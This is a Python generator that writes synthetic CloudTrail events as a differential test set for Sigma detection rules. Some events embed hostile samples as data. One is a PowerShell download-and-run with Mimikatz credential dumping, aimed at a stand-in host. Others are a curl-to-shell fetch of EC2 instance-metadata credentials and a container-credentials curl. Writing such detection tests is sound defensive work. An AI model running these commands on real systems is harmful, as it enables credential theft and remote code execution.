#!/usr/bin/env python3
"""Writes events.ndjson: the CloudTrail records of the Sigma differential test set.

    python3 tests/data/sigma/make_events.py

Each record is a plausible CloudTrail event reduced to the fields the rules in rules/ look at,
plus eventID and eventTime. Encoded payloads (base64, UTF-16) are computed here so that the
file stays readable as a list of cases. After changing it, run gen_golden.py.
"""
import base64
import json
from pathlib import Path

HERE = Path(__file__).parent
ACCOUNT = "123456789012"


def b64(data):
    return base64.b64encode(data).decode()


def user(name="alice", kind="IAMUser", **extra):
    u = {
        "type": kind,
        "principalId": "AIDAEXAMPLE" + name.upper()[:6],
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
        "accountId": ACCOUNT,
        "userName": name,
    }
    u.update(extra)
    return u


def role(session, role_name="Admin"):
    return {
        "type": "AssumedRole",
        "principalId": f"AROAEXAMPLE:{session}",
        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role_name}/{session}",
        "accountId": ACCOUNT,
        "sessionContext": {
            "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCOUNT}:role/{role_name}"},
            "attributes": {"mfaAuthenticated": "false"},
        },
    }


SCRIPT = "#!/bin/bash\ncurl http://169.254.169.254/latest/meta-data/iam/ | sh\n"
PS = "IEX (New-Object Net.WebClient).DownloadString('http://x'); Invoke-Mimikatz -DumpCreds"

EVENTS = [
    # IAM user management: map = AND, list = OR, case folding, wildcards.
    ("e01", "iam.amazonaws.com", "CreateUser", {"userIdentity": user(), "requestParameters": {"userName": "bob"}, "userAgent": "aws-cli/2.13.5 Python/3.11"}),
    ("e02", "iam.amazonaws.com", "DeleteUser", {"userIdentity": user(), "requestParameters": {"userName": "bob"}, "userAgent": "Boto3/1.28.0 Python/3.11"}),
    ("e03", "iam.amazonaws.com", "CreateAccessKey", {"userIdentity": user("carol"), "requestParameters": {"userName": "Carol"}, "responseElements": {"accessKey": {"userName": "carol", "status": "Active"}}}),
    ("e04", "IAM.amazonaws.com", "createuser", {"userIdentity": user(), "requestParameters": {"userName": "dave"}}),
    ("e05", "iam.amazonaws.com", "PutUserPolicy", {"userIdentity": user("alice"), "awsRegion": "us-east-1", "requestParameters": {"userName": "alice", "policyName": "s3", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}, "userAgent": "S3 Browser 11.4.5 https://s3browser.com"}),
    ("e06", "iam.amazonaws.com", "PutRolePolicy", {"userIdentity": role("deploy"), "awsRegion": "us-east-2", "requestParameters": {"roleName": "app", "policyDocument": "{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:*\",\"Resource\":\"*\"}]}"}}),
    ("e07", "iam.amazonaws.com", "PutGroupPolicy", {"userIdentity": user(), "awsRegion": "eu-west-1", "requestParameters": {"groupName": "g", "policyDocument": "{}"}}),
    ("e08", "iam.amazonaws.com", "UpdateLoginProfile", {"userIdentity": user("Erin"), "requestParameters": {"userName": "erin"}}),
    ("e09", "iam.amazonaws.com", "UpdateLoginProfile", {"userIdentity": user("frank"), "requestParameters": {"userName": "grace"}}),
    ("e10", "iam.amazonaws.com", "UpdateLoginProfile", {"userIdentity": role("ops-session"), "requestParameters": {"userName": "ops-session"}}),
    # S3: escapes, null and empty values, neq, objects as JSON text, keywords.
    ("e11", "s3.amazonaws.com", "GetObject", {"userIdentity": user(), "requestParameters": {"bucketName": "prod-logs", "key": "reports/q?.csv"}}),
    ("e12", "s3.amazonaws.com", "GetObject", {"userIdentity": user(), "requestParameters": {"bucketName": "other-bucket", "key": "reports/q1.csv"}}),
    ("e13", "s3.amazonaws.com", "ListBuckets", {"userIdentity": user()}),
    ("e14", "s3.amazonaws.com", "DeleteBucket", {"userIdentity": user(), "requestParameters": {"bucketName": "audit-trail"}}),
    ("e15", "s3.amazonaws.com", "DeleteBucket", {"userIdentity": user(), "errorCode": None, "requestParameters": {"bucketName": "tmp"}}),
    ("e16", "s3.amazonaws.com", "DeleteBucket", {"userIdentity": user(), "errorCode": "AccessDenied", "errorMessage": "", "requestParameters": {"bucketName": "tmp"}}),
    ("e17", "s3.amazonaws.com", "DeleteBucket", {"userIdentity": user(), "errorCode": "AccessDenied", "errorMessage": "Access Denied", "requestParameters": {"bucketName": "tmp"}}),
    ("e18", "s3.amazonaws.com", "PutBucketVersioning", {"userIdentity": user(), "requestParameters": {"bucketName": "prod-logs", "VersioningConfiguration": {"Status": "Suspended", "MfaDelete": "Disabled"}}}),
    ("e19", "s3.amazonaws.com", "PutBucketVersioning", {"userIdentity": user(), "requestParameters": {"bucketName": "prod-logs", "VersioningConfiguration": {"Status": "Enabled"}}}),
    ("e20", "s3.amazonaws.com", "GetBucketAcl", {"userIdentity": user(), "userAgent": "TruffleHog", "resources": [{"ARN": "arn:aws:s3:::prod-logs", "type": "AWS::S3::Bucket"}]}),
    ("e21", "sts.amazonaws.com", "GetCallerIdentity", {"userIdentity": user(), "userAgent": "trufflehog/3.63 (pacu)"}),
    # Paths: backslashes and literal wildcards in values.
    ("e22", "ssm.amazonaws.com", "SendCommand", {"userIdentity": user(), "requestParameters": {"documentName": "AWS-RunPowerShellScript", "workingDirectory": "C:\\Windows\\Temp", "parameters": {"commands": ["cd C:\\Windows\\Temp", "powershell -EncodedCommand " + b64(PS.encode("utf-16le"))]}}}),
    ("e23", "ssm.amazonaws.com", "SendCommand", {"userIdentity": user(), "requestParameters": {"documentName": "AWS-RunPowerShellScript", "workingDirectory": "C:\\Windows\\*", "parameters": {"commands": ["powershell /EncodedCommand SQBFAFgA"]}}}),
    ("e24", "ssm.amazonaws.com", "SendCommand", {"userIdentity": user(), "requestParameters": {"documentName": "AWS-RunShellScript", "workingDirectory": "C:\\Windows\\*x", "parameters": {"commands": ["powershell \u2013EncodedCommand SQBFAFgA", "echo done"]}}}),
    ("e25", "ssm.amazonaws.com", "SendCommand", {"userIdentity": user(), "requestParameters": {"documentName": "AWS-RunShellScript", "workingDirectory": "C:\\Windows*", "parameters": {"commands": ["powershell xEncodedCommand SQBFAFgA"]}}}),
    # EC2: CIDR, arrays (any element, negated), user data encodings, regular expressions.
    ("e26", "ec2.amazonaws.com", "RunInstances", {"userIdentity": user(), "sourceIPAddress": "10.1.2.3", "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-good"}, {"imageId": "ami-bad"}]}, "userData": b64(SCRIPT.encode())}}),
    ("e27", "ec2.amazonaws.com", "RunInstances", {"userIdentity": user(), "sourceIPAddress": "192.168.5.5", "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-bad"}, {"imageId": "ami-worse"}]}, "userData": b64(("set -e\n" + SCRIPT).encode())}}),
    ("e28", "ec2.amazonaws.com", "RunInstances", {"userIdentity": user(), "sourceIPAddress": "172.20.1.1", "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-good"}]}, "userData": b64(b"hello world")}}),
    ("e29", "ec2.amazonaws.com", "RunInstances", {"userIdentity": user(), "sourceIPAddress": "172.32.0.1", "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-other"}]}, "userData": b64(b"hello world").lower()}}),
    ("e30", "ec2.amazonaws.com", "ModifyInstanceAttribute", {"userIdentity": user(), "sourceIPAddress": "8.8.8.8", "requestParameters": {"attribute": "userData", "userData": SCRIPT}}),
    ("e31", "ec2.amazonaws.com", "ModifyInstanceAttribute", {"userIdentity": user(), "sourceIPAddress": "2001:db8:1::5", "requestParameters": {"attribute": "userData", "userData": "#!/bin/bash\necho ok\n# later: curl http://x"}}),
    ("e32", "ec2.amazonaws.com", "DescribeInstances", {"userIdentity": role("i-0abc", "aws:ec2-instance"), "sourceIPAddress": "2001:0db8::1", "userAgent": "AWS-CLI/2.15.0"}),
    ("e33", "ec2.amazonaws.com", "DescribeRegions", {"userIdentity": role("bot"), "sourceIPAddress": "ec2.amazonaws.com", "userAgent": "aws-cli/1.29.0"}),
    # ECS: nested lists; STS: numbers; booleans and numbers as text.
    ("e34", "ecs.amazonaws.com", "RegisterTaskDefinition", {"userIdentity": user(), "requestParameters": {"containerDefinitions": [{"name": "web", "command": ["nginx"]}, {"name": "side", "command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}}),
    ("e35", "ecs.amazonaws.com", "RegisterTaskDefinition", {"userIdentity": user(), "requestParameters": {"containerDefinitions": [{"name": "web", "command": ["nginx", "-g", "daemon off;"]}]}}),
    ("e36", "sts.amazonaws.com", "AssumeRole", {"userIdentity": user(), "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/Admin", "durationSeconds": 3600}}),
    ("e37", "sts.amazonaws.com", "AssumeRole", {"userIdentity": user(), "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/Admin", "durationSeconds": 43200}}),
    ("e38", "sts.amazonaws.com", "AssumeRole", {"userIdentity": user(), "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/Admin", "durationSeconds": 129600}}),
    ("e39", "sts.amazonaws.com", "AssumeRole", {"userIdentity": user(), "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/Admin", "durationSeconds": "50000"}}),
    ("e40", "sts.amazonaws.com", "AssumeRole", {"userIdentity": user(), "requestParameters": {"roleArn": "arn:aws:iam::123456789012:role/Admin", "durationSeconds": 900}}),
    ("e41", "rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot", {"userIdentity": user(), "responseElements": {"publiclyAccessible": True, "dBInstanceIdentifier": "db1"}}),
    ("e42", "rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot", {"userIdentity": user(), "responseElements": {"publiclyAccessible": "TRUE", "dBInstanceIdentifier": "db2"}}),
    ("e43", "rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot", {"userIdentity": user(), "responseElements": {"publiclyAccessible": False, "dBInstanceIdentifier": "db3"}}),
    ("e44", "guardduty.amazonaws.com", "UpdateDetector", {"userIdentity": user(), "requestParameters": {"detectorId": "abc", "enable": False}}),
    ("e45", "guardduty.amazonaws.com", "UpdateDetector", {"userIdentity": user(), "requestParameters": {"detectorId": "abc", "enable": "False"}}),
    ("e46", "guardduty.amazonaws.com", "UpdateDetector", {"userIdentity": user(), "requestParameters": {"detectorId": "abc", "enable": True}}),
    # Console logins: missing keys are null; non-ASCII case; keywords; CloudTrail itself.
    ("e47", "signin.amazonaws.com", "ConsoleLogin", {"userIdentity": {"type": "Root", "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}, "additionalEventData": {"MFAUsed": "No"}, "responseElements": {"ConsoleLogin": "Success"}}),
    ("e48", "signin.amazonaws.com", "ConsoleLogin", {"userIdentity": user(), "additionalEventData": {"MFAUsed": "Yes"}, "responseElements": {"ConsoleLogin": "Success"}}),
    ("e49", "signin.amazonaws.com", "ConsoleLogin", {"userIdentity": user("zoë"), "responseElements": {"ConsoleLogin": "Failure"}, "errorMessage": "Failed authentication"}),
    ("e50", "tagging.amazonaws.com", "TagResources", {"userIdentity": user(), "requestParameters": {"tags": {"Review": "ÜBERPRÜFUNG"}, "resourceARNList": ["arn:aws:s3:::prod-logs"]}}),
    ("e51", "tagging.amazonaws.com", "TagResources", {"userIdentity": user(), "requestParameters": {"tags": {"Review": "überprüfung"}, "resourceARNList": ["arn:aws:s3:::other"]}}),
    ("e52", "cloudtrail.amazonaws.com", "StopLogging", {"userIdentity": user(), "requestParameters": {"name": "main"}}),
    ("e53", "cloudtrail.amazonaws.com", "DeleteTrail", {"userIdentity": {"type": "AWSService", "invokedBy": "config.amazonaws.com"}, "requestParameters": {"name": "main"}}),
    ("e54", "cloudtrail.amazonaws.com", "StopLogging", {"userIdentity": role("break-glass", "OrgAdmin"), "requestParameters": {"name": "main"}}),
    ("e55", "cloudtrail.amazonaws.com", "UpdateTrail", {"userIdentity": user(), "requestParameters": {"name": "main", "isMultiRegionTrail": False}}),
    ("e56", "iam.amazonaws.com", "CreateAccessKey", {"userIdentity": user("root-admin"), "requestParameters": {"userName": "svc"}, "responseElements": {"accessKey": {"accessKeyId": "AKIAIOSFODNN7EXAMPLE"}}}),
    ("e57", "iam.amazonaws.com", "CreateAccessKey", {"userIdentity": user("ops-jane"), "requestParameters": {"userName": "svc"}}),
    ("e58", "secretsmanager.amazonaws.com", "GetSecretValue", {"userIdentity": user(), "requestParameters": {"secretId": "prod/db", "versionStage": "AWSCURRENT", "payload": b64(("x" + "token=secret-value").encode("utf-16be")), "bootstrap": b64(b"\xff\xfe" + "whoami".encode("utf-16le"))}}),
    ("e59", "secretsmanager.amazonaws.com", "GetSecretValue", {"userIdentity": user(), "requestParameters": {"secretId": "dev/db", "payload": b64("token=other".encode("utf-16be")), "bootstrap": b64("whoami".encode("utf-16le"))}}),
]


def main():
    lines = []
    for i, (event_id, source, name, rest) in enumerate(EVENTS):
        record = {
            "eventVersion": "1.08",
            "eventTime": f"2024-05-01T10:{i // 60:02d}:{i % 60:02d}Z",
            "eventSource": source,
            "eventName": name,
            "awsRegion": "us-west-2",
            "sourceIPAddress": "198.51.100.7",
            "eventID": event_id,
            "eventType": "AwsApiCall",
            "recipientAccountId": ACCOUNT,
        }
        record.update(rest)
        lines.append(json.dumps(record, ensure_ascii=False, sort_keys=True))
    (HERE / "events.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(lines)} events")


if __name__ == "__main__":
    main()
